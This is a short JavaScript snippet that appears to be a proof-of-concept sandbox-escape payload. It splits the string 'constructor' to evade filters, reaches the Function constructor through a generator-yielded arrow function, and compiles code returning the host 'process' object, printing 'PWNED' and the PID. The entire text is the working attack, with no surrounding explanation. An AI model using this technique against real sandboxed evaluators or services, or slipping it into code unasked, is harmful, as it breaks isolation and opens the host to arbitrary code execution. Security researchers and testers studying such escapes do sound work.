const w = ['con', 'structor'].join('');
class G { *[Symbol.iterator]() { yield ((x) => x)[w]; } }
const [make] = new G();
console.log('PWNED', make('return process')().pid);
